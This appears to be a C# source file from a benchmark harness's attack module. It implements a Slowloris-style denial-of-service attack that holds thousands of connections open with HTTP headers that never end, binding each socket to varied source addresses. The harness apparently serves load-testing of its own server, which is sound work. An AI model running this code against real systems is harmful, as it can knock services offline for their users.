using System.Net;
using System.Net.Sockets;

namespace Videoroom.Bench.Attack.Attacks;

/// <summary>HTTP requests whose headers never end: each holds a connection of the server for as long as it is let.</summary>
internal sealed class HalfRequests : IAttack
{
    private const int MaxPending = 128;
    private const int MaxHeld = 4000;
    private static readonly byte[] Half = "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Half: "u8.ToArray();

    private readonly PendingWork _work;
    private readonly IPEndPoint _page;
    private long _bytes;

    public HalfRequests(AttackerOptions options)
    {
        _page = new IPEndPoint(IPAddress.Parse(options.Page.Host), options.Page.Port);
        _work = new PendingWork(OpenAsync, MaxPending, MaxHeld);
    }

    public long Attempts => _work.Attempts;

    public long Failed => _work.Failed;

    public long Bytes => Interlocked.Read(ref _bytes);

    public string Detail => $"{StrangeAddress.Count} addresses, {MaxHeld:N0} held at most";

    public void Step() => _work.Step();

    public Task ReleaseAsync() => _work.ReleaseAsync();

    public ValueTask DisposeAsync() => _work.DisposeAsync();

    private async Task<IAsyncDisposable> OpenAsync(int number, CancellationToken cancellation)
    {
        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        try
        {
            socket.Bind(new IPEndPoint(StrangeAddress.Of(number), 0));
            await socket.ConnectAsync(_page, cancellation);
            Interlocked.Add(ref _bytes, await socket.SendAsync(Half, SocketFlags.None, cancellation));
            return new NetworkStream(socket, ownsSocket: true);
        }
        catch
        {
            socket.Dispose();
            throw;
        }
    }
}
